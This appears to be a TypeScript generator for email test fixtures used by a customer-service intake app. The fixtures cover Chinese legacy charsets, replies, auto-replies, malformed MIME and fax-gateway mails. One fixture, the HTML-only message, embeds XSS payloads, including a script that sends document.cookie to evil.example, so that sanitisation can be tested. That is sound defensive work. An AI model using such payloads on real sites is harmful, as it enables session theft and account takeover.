/**
 * Writes the fixture messages of this folder (the .eml files are committed; re-run after a change):
 *   node -r ts-node/register/transpile-only -r tsconfig-paths/register apps/intake/test-fixtures/mail/generate.ts
 * Each mirrors what the named software actually sends: header set, MIME layout, charset and transfer
 * encoding, gateway subject and body templates. corpus/ holds real bounces and auto-replies (BSD licence).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { base64Lines, encodedWord, encodeLegacy, makePdf, makeTiff, message, quotedPrintable } from './builders';

const out = (name: string, raw: Buffer) => writeFileSync(join(__dirname, name), raw);
const b64 = (s: string) => base64Lines(Buffer.from(s, 'utf8'));
const date = 'Mon, 23 Nov 2026 10:05:11 +0800';

// GB2312-labelled mail from Foxmail, base64 subject and body. 喆 is not in GB2312 (only GBK/GB18030):
// mail software labels GBK text "gb2312" all the time, so the decoder must read the superset.
out('gb2312-foxmail.eml', message([
  ['Received', 'from WIN-FOXMAIL (unknown [223.104.63.12]) by smtp.163.com with ESMTPA; Mon, 23 Nov 2026 10:05:12 +0800 (CST)'],
  ['Date', date], ['From', `${encodedWord(encodeLegacy('王喆', 'gbk'), 'gb2312')} <wangzhe.owner@163.com>`], ['To', 'cs <cs@kefu.example>'],
  ['Subject', encodedWord(encodeLegacy('3栋2单元1502卫生间漏水', 'gbk'), 'gb2312')],
  ['X-Priority', '3'], ['X-Has-Attach', 'no'], ['X-Mailer', 'Foxmail 7.2.25.228[cn]'], ['Mime-Version', '1.0'],
  ['Message-ID', '<202611231005112341298@163.com>'], ['Content-Type', 'text/plain;\r\n\tcharset="gb2312"'], ['Content-Transfer-Encoding', 'base64'],
], base64Lines(encodeLegacy('您好：\r\n我是碧海云天3栋2单元1502的业主王喆，卫生间天花板漏水已经一周了，楼下也在渗水，请尽快派人维修。\r\n联系电话：138 1234 5678\r\n', 'gbk'))));

// GBK from QQ Mail (quoted-printable subject and body).
out('gbk-qqmail.eml', message([
  ['Date', date], ['From', `"${encodedWord(encodeLegacy('李女士', 'gbk'), 'GBK', 'Q')}" <2750012345@qq.com>`], ['To', '"cs" <cs@kefu.example>'],
  ['Subject', encodedWord(encodeLegacy('楼上装修噪音太大', 'gbk'), 'GBK', 'Q')],
  ['Mime-Version', '1.0'], ['Content-Type', 'text/plain;\r\n\tcharset="GBK"'], ['Content-Transfer-Encoding', 'quoted-printable'],
  ['X-QQ-MIME', 'TCMime 1.0 by Tencent'], ['X-Mailer', 'QQMail 2.x'], ['X-QQ-Mailer', 'QQMail 2.x'], ['Message-ID', '<tencent_4A1B2C3D4E5F@qq.com>'],
], quotedPrintable(encodeLegacy('物业你好，\n3栋1502楼上晚上十点还在装修施工，噪音太大影响休息，请处理。\n', 'gbk'))));

// Big5 (traditional characters), base64, from a Hong Kong owner.
out('big5-owner.eml', message([
  ['Date', date], ['From', `${encodedWord(encodeLegacy('陳先生', 'big5'), 'big5')} <chan.owner@netvigator.example>`], ['To', 'cs@kefu.example'],
  ['Subject', encodedWord(encodeLegacy('停車場入口道閘經常抬不起來', 'big5'), 'big5')], ['MIME-Version', '1.0'], ['Message-ID', '<big5-20261123-0001@netvigator.example>'],
  ['Content-Type', 'text/plain; charset="big5"'], ['Content-Transfer-Encoding', 'base64'],
], base64Lines(encodeLegacy('客服部您好：\r\n停車場入口的道閘經常抬不起來，每天早上都要排隊，請盡快處理。\r\n', 'big5'))));

// HTML only, with script, style, an event handler and a javascript: link: none of it may reach the case.
const html = `<html><head><style>p{color:red}</style><script>alert('xss')</script></head><body>
<p>小区东门口的路灯坏了一周了，晚上很黑。</p><img src="x" onerror="alert(1)"><a href="javascript:alert(2)">点击查看照片</a>
<script>document.location='http://evil.example/?c='+document.cookie</script><table><tr><td>位置</td><td>东门</td></tr></table></body></html>`;
out('html-only-scripts.eml', message([
  ['Date', date], ['From', `${encodedWord(Buffer.from('张三', 'utf8'), 'UTF-8')} <zhangsan.owner@example.com>`], ['To', 'cs@kefu.example'], ['Subject', `${encodedWord(Buffer.from('东门路灯坏了', 'utf8'), 'UTF-8')}`],
  ['Message-ID', '<html-only-0001@example.com>'], ['MIME-Version', '1.0'], ['Content-Type', 'text/html; charset=UTF-8'], ['Content-Transfer-Encoding', 'base64'],
], b64(html)));

// A department forwards an owner's mail to customer service (003 §9.2.4), Gmail layout.
const forwarded = `请客服部跟进，谢谢。\n\n---------- Forwarded message ---------\nFrom: 赵女士 <zhao.owner@example.com>\nDate: 2026年11月22日周日 下午8:14\nSubject: 车库漏水\nTo: 工程部 <eng@kefu.example>\n\n地下车库B2层112车位上方一直滴水，车都被弄脏了。\n`;
out('forwarded-by-department.eml', message([
  ['Date', date], ['From', `${encodedWord(Buffer.from('工程部 李工', 'utf8'), 'UTF-8')} <ligong@kefu.example>`], ['To', 'cs@kefu.example'], ['Subject', `${encodedWord(Buffer.from('转发: 车库漏水', 'utf8'), 'UTF-8')}`],
  ['Message-ID', '<CAF=forward-0001@mail.gmail.com>'], ['MIME-Version', '1.0'], ['Content-Type', 'text/plain; charset="UTF-8"'], ['Content-Transfer-Encoding', 'quoted-printable'],
], quotedPrintable(Buffer.from(forwarded, 'utf8'))));

// An owner answers our acknowledgement: the case number is in the subject (no thread headers), with a photo.
// A 1x1 PNG standing in for the owner's photo.
const photo = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
out('reply-with-case-number.eml', message([
  ['Date', date], ['From', `${encodedWord(Buffer.from('王先生', 'utf8'), 'UTF-8')} <wang.owner@example.com>`], ['To', 'cs@kefu.example'],
  ['Subject', `${encodedWord(Buffer.from('Re: 您的投诉已受理 [COBZS001-2026-00001]', 'utf8'), 'UTF-8')}`], ['Message-ID', '<reply-0001@example.com>'],
  ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="=_reply_b1"'],
], `--=_reply_b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64('今天又漏了，附上照片。\n')}--=_reply_b1\r\nContent-Type: image/png; name="leak.png"\r\nContent-Disposition: attachment; filename="leak.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(photo)}--=_reply_b1--\r\n`));

// The same owner answers a mail we sent: only In-Reply-To / References point to our Message-ID.
out('reply-in-thread.eml', message([
  ['Date', date], ['From', 'wang.owner@example.com'], ['To', 'cs@kefu.example'], ['Subject', `Re: ${encodedWord(Buffer.from('感谢您的反馈', 'utf8'), 'UTF-8')}`],
  ['Message-ID', '<reply-0002@example.com>'], ['In-Reply-To', '<ack-7f3a9c21@kefu.example>'], ['References', '<ack-7f3a9c21@kefu.example>'],
  ['MIME-Version', '1.0'], ['Content-Type', 'text/plain; charset=UTF-8'], ['Content-Transfer-Encoding', '8bit'],
], Buffer.from('好的，周三上午有人在家。\r\n', 'utf8')));

// Outlook / Exchange out-of-office in Chinese (自动答复), multipart/alternative with a GB2312 plain part.
out('outlook-oof-zh.eml', message([
  ['From', `${encodedWord(encodeLegacy('陈经理', 'gbk'), 'gb2312')} <chen@supplier.example>`], ['To', 'cs <cs@kefu.example>'],
  ['Subject', encodedWord(encodeLegacy('自动答复: 关于3栋电梯维修', 'gbk'), 'gb2312')], ['Thread-Topic', encodedWord(encodeLegacy('关于3栋电梯维修', 'gbk'), 'gb2312')],
  ['Thread-Index', 'AQHa8qY2c3RkZXhjaGFuZ2VvZg=='], ['Date', date], ['Message-ID', '<6b1f0e2a8c4d4e8f9a0b1c2d3e4f5a6b@EXCH01.supplier.example>'],
  ['Content-Language', 'zh-CN'], ['X-MS-Has-Attach', ''], ['X-MS-TNEF-Correlator', ''], ['X-MS-Exchange-Inbox-Rules-Loop', 'chen@supplier.example'],
  ['Auto-Submitted', 'auto-generated'], ['X-Auto-Response-Suppress', 'All'], ['MIME-Version', '1.0'],
  ['Content-Type', 'multipart/alternative;\r\n\tboundary="_000_6b1f0e2a8c4d_"'],
], `--_000_6b1f0e2a8c4d_\r\nContent-Type: text/plain; charset="gb2312"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(encodeLegacy('您好，我于11月23日至11月27日休假，期间不能及时回复邮件。紧急事务请联系李工。\r\n', 'gbk'))}\r\n--_000_6b1f0e2a8c4d_\r\nContent-Type: text/html; charset="gb2312"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(encodeLegacy('<html><body><p>您好，我于11月23日至11月27日休假。</p></body></html>', 'gbk'))}\r\n--_000_6b1f0e2a8c4d_--\r\n`));

// 163.com auto-reply: no RFC 3834 header at all, only the subject says so.
out('autoreply-163.eml', message([
  ['Date', date], ['From', 'sun.owner@163.com'], ['To', 'cs@kefu.example'], ['Subject', `${encodedWord(Buffer.from('自动回复：您的投诉已受理', 'utf8'), 'UTF-8')}`],
  ['Message-ID', '<autoreply-163-0001@163.com>'], ['MIME-Version', '1.0'], ['Content-Type', 'text/plain; charset=UTF-8'], ['Content-Transfer-Encoding', 'base64'],
], b64('这是来自孙先生的自动回复邮件。您好，我最近正在休假中，无法亲自回复您的邮件。\n')));

// ---------------------------------------------------------------- faults

out('malformed-no-boundary.eml', message([
  ['Date', date], ['From', 'broken@example.com'], ['To', 'cs@kefu.example'], ['Subject', 'broken multipart'], ['Message-ID', '<malformed-1@example.com>'],
  ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed'],
], '--whatever\r\nContent-Type: text/plain\r\n\r\nhello\r\n--whatever--\r\n'));
out('malformed-lost-boundary.eml', message([
  ['Date', date], ['From', 'broken@example.com'], ['To', 'cs@kefu.example'], ['Subject', 'truncated upload'], ['Message-ID', '<malformed-2@example.com>'],
  ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="----=_Part_0_1234"'],
], 'This is a multi-part message in MIME format.\r\n\r\n------=_Part_9_9999\r\nContent-Type: text/plain\r\n\r\nthe boundary above is not the declared one\r\n'));
out('unknown-charset.eml', message([
  ['Date', date], ['From', 'legacy@example.com'], ['To', 'cs@kefu.example'], ['Subject', '=?x-mac-chinesesimp?B?yOe5+w==?='], ['Message-ID', '<charset-1@example.com>'],
  ['MIME-Version', '1.0'], ['Content-Type', 'text/plain; charset="x-kefu-unknown"'], ['Content-Transfer-Encoding', '8bit'],
], Buffer.from([0xc8, 0xe7, 0xb9, 0xfb, 0x0d, 0x0a])));
out('empty.eml', message([['Date', date], ['From', 'nobody@example.com'], ['To', 'cs@kefu.example'], ['Message-ID', '<empty-1@example.com>'], ['Subject', '']], '\r\n'));
out('garbage.eml', Buffer.concat([Buffer.from([0x00, 0xff, 0xfe, 0x13]), Buffer.from('\r\n\x01\x02 not a mail at all \x7f\r\n', 'latin1')]));

// ---------------------------------------------------------------- fax gateways

const faxText = ['致碧海云天客服部：', '我是3栋2单元1502业主王先生，卫生间漏水至楼下，', '物业多次维修未解决，请尽快安排。联系电话 13812345678'];
const textPdf = makePdf([{ lines: faxText }, { lines: ['附：漏水位置示意，见第一页。'] }]);
const scannedPdf = makePdf([{ lines: null }, { lines: null }, { lines: null }]);
const attach = (boundary: string, type: string, name: string, data: Buffer, description = '') =>
  `--${boundary}\r\nContent-Type: ${type}; name="${name}"\r\n${description}Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${base64Lines(data)}\r\n`;

// HylaFAX faxrcvd (FaxDispatch FILETYPE=pdf / tif): faxinfo's listing as the text part.
const hylafaxInfo = (sender: string, pages: number, callId: string) =>
  `    Sender: ${sender}\r\n     Pages: ${pages}\r\n   Quality: Fine\r\n      Page: ISO A4\r\n  Received: 2026:11:23 10:05:11\r\nTimeToRecv: 0:01:02\r\nSignalRate: 14400 bit/s\r\nDataFormat: 2-D MMR\r\nErrCorrect: Yes\r\n   CallID1: ${callId}\r\n   CallID2: \r\nReceivedOn: ttyIAX0\r\n    CommID: c000000123\r\n`;
const hylafax = (name: string, sender: string, info: string, att: string) =>
  out(name, message([
    ['Mime-Version', '1.0'], ['Content-Type', 'Multipart/Mixed; Boundary="NextPart24567"'], ['Content-Transfer-Encoding', '7bit'], ['To', 'cs@kefu.example'],
    ['From', 'The HylaFAX Receive Agent <fax@fax.kefu.example>'], ['Subject', `Facsimile received from ${sender}`],
    ['Message-Id', `<${name.replace('.eml', '')}.24567@fax.kefu.example>`], ['Date', date],
  ], `--NextPart24567\r\nContent-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n${info}\r\n${att}--NextPart24567--\r\n`));
hylafax('fax-hylafax-pdf.eml', '+86 755 8334 5678', hylafaxInfo('+86 755 8334 5678', 2, '075583345678'), attach('NextPart24567', 'application/pdf', 'fax000000123.pdf', textPdf, 'Content-Description: FAX document\r\n'));
hylafax('fax-hylafax-tiff.eml', 'BHYT WUYE OFFICE', hylafaxInfo('BHYT WUYE OFFICE', 3, '075526881234'), attach('NextPart24567', 'image/tiff', 'fax000000124.tif', makeTiff(3, 'MM'), 'Content-Description: FAX document\r\n'));

// eFax: scanned PDF, no text layer.
out('fax-efax-pdf.eml', message([
  ['From', 'eFax <message@inbound.efax.com>'], ['To', 'cs@kefu.example'], ['Subject', 'eFax message from "0755 8334 5678" - 3 page(s), Caller-ID: 075583345678'],
  ['Date', date], ['Message-ID', '<1795390000.efax.0001@inbound.efax.com>'], ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="----=_Part_313_17953900"'],
], `------=_Part_313_17953900\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nYou have received a 3 page fax at 2026-11-23 10:05:11 CST.\r\n\r\n* The reference number for this fax is lax1_did11-1795390000-0755833456780-3.\r\n\r\nPlease visit https://www.efax.com/help if you have any questions regarding this message or your service.\r\n\r\nThank you for using the eFax service!\r\n\r\n${attach('----=_Part_313_17953900', 'application/pdf', 'FAX_20261123_1795390000_3.pdf', scannedPdf)}------=_Part_313_17953900--\r\n`));

// RingCentral.
out('fax-ringcentral-pdf.eml', message([
  ['From', 'RingCentral <notify@ringcentral.com>'], ['To', 'cs@kefu.example'], ['Subject', 'New Fax Message from +86 755 2688 1234 on 11/23/2026 10:05 AM'],
  ['Date', date], ['Message-ID', '<rc.fax.1795390000.0001@ringcentral.com>'], ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="rc-b1"'],
], `--rc-b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nYou have a new Fax message.\r\n\r\nFrom: +86 755 2688 1234\r\nReceived: Monday, November 23, 2026 at 10:05 AM\r\nPages: 2\r\nTo: Customer Service\r\n\r\nThank you for using RingCentral!\r\n\r\n${attach('rc-b1', 'application/pdf', 'fax_1795390000.pdf', textPdf)}--rc-b1--\r\n`));

// FusionPBX fax_to_email.php (PHPMailer): alternative text/HTML body, the PDF from tiff2pdf, or the TIFF when that failed.
const fusion = (name: string, file: string, att: string) =>
  out(name, message([
    ['Date', date], ['To', 'cs@kefu.example'], ['From', 'FusionPBX FAX <fusionpbx@pbx.kefu.example>'], ['Subject', `Fax Received: ${file}`],
    ['Message-ID', `<${file}@pbx.kefu.example>`], ['X-Mailer', 'PHPMailer 5.2.9 (https://github.com/PHPMailer/PHPMailer/)'], ['MIME-Version', '1.0'],
    ['Content-Type', 'multipart/mixed;\r\n\tboundary="b1_4f8e2c"'],
  ], `This is a multi-part message in MIME format.\r\n\r\n--b1_4f8e2c\r\nContent-Type: multipart/alternative;\r\n\tboundary="b2_4f8e2c"\r\n\r\n--b2_4f8e2c\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nFax Received\r\n\r\nName: ${file}\r\nExtension: 8000\r\nMessages: \r\n\r\n\r\n--b2_4f8e2c\r\nContent-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<br><strong>Fax Received</strong><br><br>Name: ${file}<br>Extension: 8000<br>Messages: <br><br>\r\n\r\n--b2_4f8e2c--\r\n\r\n${att}--b1_4f8e2c--\r\n`));
fusion('fax-fusionpbx-pdf.eml', '075583345678-2026-11-23-10-05-11', attach('b1_4f8e2c', 'application/octet-stream', '075583345678-2026-11-23-10-05-11.pdf', textPdf));
fusion('fax-fusionpbx-tiff.eml', '02161234567-2026-11-23-10-07-42', attach('b1_4f8e2c', 'image/tiff', '02161234567-2026-11-23-10-07-42.tif', makeTiff(4, 'II')));

process.stdout.write('fixtures written\n');
